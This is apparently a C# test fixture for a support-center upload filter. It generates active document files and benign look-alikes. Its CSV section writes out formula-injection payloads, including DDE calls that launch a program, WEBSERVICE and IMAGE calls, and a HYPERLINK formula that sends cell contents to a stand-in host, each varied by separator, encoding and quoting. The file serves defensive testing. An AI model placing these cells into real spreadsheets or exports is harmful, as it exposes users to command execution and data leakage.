using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace SupportCenter.Tests.Documents;

/// <summary>Small files that do something when they are opened, one for each way, and ordinary ones that look a little like them.</summary>
internal static partial class ActiveFiles
{
    private const string Rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string StrictRel = "http://purl.oclc.org/ooxml/officeDocument/relationships/";
    private const string LetterType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

    /// <summary>Name of the file, what is said of it, the file.</summary>
    public static IReadOnlyDictionary<string, (string Name, string Said, Func<byte[]> File)> Refused { get; } =
        Letters()
            .Concat(PartsOfAnyName())
            .Concat(Sheets())
            .Concat(FormulasInPieces())
            .Concat(OldWorkbooks())
            .Concat(Pdfs())
            .Concat(PackedObjects())
            .Concat(Tables())
            .ToDictionary(entry => $"{entry.Name}: {entry.What}", entry => (entry.Name, entry.Said, entry.File), StringComparer.Ordinal);

    /// <summary>What looks a little like it and is ordinary.</summary>
    public static IReadOnlyDictionary<string, (string Name, Func<byte[]> File)> Ordinary { get; } =
        new Dictionary<string, (string, Func<byte[]>)>(StringComparer.Ordinal)
        {
            ["a letter with links to pages and addresses"] = ("手紙.docx", () =>
                Letter(
                    "",
                    Relation("hyperlink", "https://www.example.com/", external: true),
                    Relation("hyperlink", "mailto:someone@example.com", external: true),
                    Relation("image", "media/image1.png")
                )
            ),
            ["a letter with fields for pages and dates"] = ("手紙.docx", () =>
                Letter(
                    "<w:p><w:instrText> PAGE \\* MERGEFORMAT </w:instrText>"
                        + "<w:instrText> HYPERLINK \"https://example.com/link/database\" </w:instrText></w:p>"
                )
            ),
            ["a letter with fields in fields"] = ("手紙.docx", () =>
                Letter(
                    "<w:p><w:fldChar w:fldCharType=\"begin\"/><w:instrText> IF </w:instrText>"
                        + "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>PAGE</w:instrText>"
                        + "<w:fldChar w:fldCharType=\"separate\"/><w:t>DDE</w:t><w:fldChar w:fldCharType=\"end\"/>"
                        + "<w:instrText> = 1</w:instrText>"
                        + "<w:fldChar w:fldCharType=\"separate\"/><w:t>LINK</w:t><w:fldChar w:fldCharType=\"end\"/></w:p>"
                )
            ),
            ["a letter with a drawing"] = ("手紙.docx", () =>
                Letter(
                    "<v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\" href=\"https://example.com/\">"
                        + "<v:imagedata src=\"\" id=\"x\"/></v:shape>",
                    [],
                    ("word/media/image1.svg", "<!DOCTYPE svg [<!ENTITY x \"y\">]><svg><f>WEBSERVICE(1)</f>&x;</svg>"),
                    ("word/media/image1.emf", "LBP"),
                    ("word/nothing.bin", "")
                )
            ),
            ["a sheet with a note of two lines"] = ("売上.xlsx", () =>
                Sheet("", [], ("xl/drawings/vmlDrawing1.vml", "<xml><v:textbox><div>x<br></div></v:textbox></xml>"))
            ),
            ["a sheet with checked cells"] = ("売上.xlsx", () =>
                Sheet("<formula1>\"営業|総務,経理\"</formula1><x><f>SUM(A1)</f></x><v>WEBSERVICE(1)</v>")
            ),
            ["a sheet with formulas"] = ("売上.xlsx", () => Sheet("<f>SUM(A1:A3)*IF(B1=\"|\",1,2)</f>")),
            ["a sheet with form controls"] = ("相談票.xlsx", () => Sheet("", Relation("ctrlProp", "../ctrlProps/ctrlProp1.xml"))),
            ["an old workbook of two sheets"] = ("売上.xls", () => Old(Bound(0), Bound(2), SupBook(0x0401), SupBook(0x3A01))),
            ["a PDF that opens at a place"] = ("案内.pdf", () => Pdf("/OpenAction[3 0 R/FitH null]")),
            ["a PDF that goes to a place"] = ("案内.pdf", () => Pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>")),
            ["a PDF that does nothing at other times"] = ("案内.pdf", () => Pdf("/AA<<>>/OpenAction null/X<</FS 7 0 R/F 4/EF/AA/AF[]>>")),
            ["a PDF that goes to a place at another time"] = ("案内.pdf", () => Pdf("/AA<</O<</S/GoTo/D(x)>>>>")),
            ["a PDF with words in strings"] = ("案内.pdf", () =>
                Packed("<</C(/S /GoTo)>>", "/C(stream >> 1 0 obj <<)", "<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode]/C(>>stream)>>")
            ),
            ["a PDF with a picture"] = ("案内.pdf", () =>
                Packed("<<>>", "", more: "11 0 obj\n<</Filter/DCTDecode/Length 9>>\nstream\n/EF /AA ab\nendstream\nendobj\n")
            ),
            ["a PDF with a link to a page"] = ("案内.pdf", () => Pdf("/X<</S/URI/URI(https://example.com)>>")),
            ["a PDF with packed objects"] = ("案内.pdf", () => Packed("<</Type/Font/BaseFont/Helvetica>>", "")),
            ["a PDF whose packed object is a place"] = ("案内.pdf", () => Packed("<</S/GoTo/D[3 0 R/Fit]>>", "/OpenAction 9 0 R")),
            ["a table of words in quotes"] = ("売上.csv", () =>
                Encoding.UTF8.GetBytes("企業名,備考\r\n\"例\"\"示\",\"- A|B, C\r\n- D\"\r\nimage (写真),\"a, =x\"\r\n-5,IMAGES\r\n")
            ),
            ["a table in Shift_JIS whose bytes have bars"] = ("売上.csv", () =>
                CodePagesEncodingProvider.Instance.GetEncoding(932)!.GetBytes("@ポスト!,-ポンプ!,=ポ\r\n")
            ),
            ["a table with sums, signs and numbers below zero"] = ("売上.csv", () =>
                Encoding.UTF8.GetBytes("売上,差額\r\n=SUM(A1:A3),-1200\r\n+81-75-000-0000,@例示\r\n\"A|B\",x\r\n")
            ),
        };

    private static IEnumerable<(string Name, string What, string Said, Func<byte[]> File)> Tables()
    {
        foreach (
            var cell in new[]
            {
                "=cmd|'/c calc'!A0",
                "+cmd|'/c calc'!A0",
                "-2+3+cmd|'/c calc'!A0",
                "@SUM(1)|x!A0",
                "=WEBSERVICE(\"http://x\")",
                "=SUM(1,2)+cmd|'/c calc'!A0",
                "=SUM(1;2)+cmd|'/c calc'!A0",
                "=IF(1,WEBSERVICE(\"http://x\"))",
                "=IF(1;\"a,b\";WEBSERVICE(\"http://x\"))",
                "=IMAGE(\"http://x/x.png\")",
                "=HYPERLINK(\"http://x?\"&A1,\"x\")",
                "＝cmd|'/c calc'!A0",
                "  =IF(1,\n2,cmd|'/c calc'!A0)",
            }
        )
        {
            foreach (var (separator, sign) in new[] { (",", "comma"), (";", "semicolon"), ("\t", "tab"), ("^", "sign of its own") })
            {
                var first = separator == "^" ? "sep=^\r\n" : "";
                var quoted = $"\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\"";
                foreach (var encoding in new[] { Encoding.UTF8, CodePagesEncodingProvider.Instance.GetEncoding(932)! })
                {
                    yield return ("表.csv", $"behind a {sign}, {encoding.WebName}: {cell}", "DDE", () =>
                        encoding.GetBytes($"{first}企業名{separator}ポ\r\n\"例\"\"示\"{separator}{quoted}{separator}x\r\n")
                    );
                }

                yield return ("表.csv", $"behind a {sign} and a blank: {cell}", "DDE", () =>
                    Encoding.UTF8.GetBytes($"{first}例示{separator} {quoted}\r\n")
                );
                yield return ("表.csv", $"behind a {sign} and a quote that is none: {cell}", "DDE", () =>
                    Encoding.UTF8.GetBytes($"{first}例示{separator} \"x{separator}{quoted}\r\n")
                );
                if (cell.IndexOfAny([separator[0], '\n']) < 0)
                {
                    yield return ("表.csv", $"without quotes behind a {sign}: {cell}", "DDE", () =>
                        Encoding.UTF8.GetBytes($"{first}例示{separator}{cell}\r\n")
                    );
                }
            }

            yield return ("表.csv", "quoted " + cell, "DDE", () =>
                Encoding.UTF8.GetBytes($"\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\",x\r\n")
            );
            yield return ("表.csv", "UTF-16 " + cell, "DDE", () =>
                [
                    .. Encoding.Unicode.GetPreamble(),
                    .. Encoding.Unicode.GetBytes($"例示\t\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\"\r\n"),
                ]
            );
        }
    }

    private static string Relation(string kind, string target, bool external = false) =>
        $"<Relationship Id=\"r{kind}\" Type=\"{Rel}{kind}\" "
        + $"Target=\"{System.Security.SecurityElement.Escape(target)}\"{(external ? " TargetMode=\"External\"" : "")}/>";

    private static byte[] Letter(string body, params string[] relations) => Letter(body, relations, []);

    private static byte[] Letter(string body, string[] relations, params (string Name, string Xml)[] more) =>
        Package(
            "word/document.xml",
            LetterType,
            Encoding.UTF8.GetBytes($"<w:document {W}><w:body>{body}</w:body></w:document>"),
            "word/_rels/document.xml.rels",
            relations,
            [.. more.Select(part => (part.Name, Encoding.UTF8.GetBytes(part.Xml)))]
        );

    private static byte[] Sheet(string body, params string[] relations) => Sheet(body, relations, []);

    private static byte[] Sheet(string body, string[] relations, params (string Name, string Xml)[] more) =>
        Package(
            "xl/workbook.xml",
            SampleFiles.WorkbookType,
            Encoding.UTF8.GetBytes("<workbook/>"),
            "xl/_rels/workbook.xml.rels",
            relations,
            [
                ("xl/worksheets/sheet1.xml", Encoding.UTF8.GetBytes($"<worksheet><sheetData>{body}</sheetData></worksheet>")),
                .. more.Select(part => (part.Name, Encoding.UTF8.GetBytes(part.Xml))),
            ]
        );

    private static byte[] Package(
        string main,
        string type,
        byte[] content,
        string rels,
        string[] relations,
        params (string Name, byte[] Content)[] more
    ) =>
        SampleFiles.Zip([
            (
                "[Content_Types].xml",
                Encoding.UTF8.GetBytes(
                    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override "
                        + $"PartName=\"/{main}\" ContentType=\"{type}\"/></Types>"
                )
            ),
            (main, content),
            (
                rels,
                Encoding.UTF8.GetBytes(
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + $"{string.Concat(relations)}</Relationships>"
                )
            ),
            .. more,
        ]);

    private static byte[] Old(params byte[][] records) =>
        SampleFiles.Compound("Workbook", [.. Record(0x0809, 0, 6, 5, 0), .. records.SelectMany(record => record)]);

    private static byte[] Bound(byte kind) => Record(0x0085, 0, 0, 0, 0, 0, kind, 1, 0, (byte)'A');

    private static byte[] SupBook(ushort kind) => Record(0x01AE, 1, 0, (byte)kind, (byte)(kind >> 8));

    private static byte[] Record(ushort type, params byte[] content)
    {
        var record = new byte[4 + content.Length];
        BinaryPrimitives.WriteUInt16LittleEndian(record, type);
        BinaryPrimitives.WriteUInt16LittleEndian(record.AsSpan(2), (ushort)content.Length);
        content.CopyTo(record, 4);
        return record;
    }
}
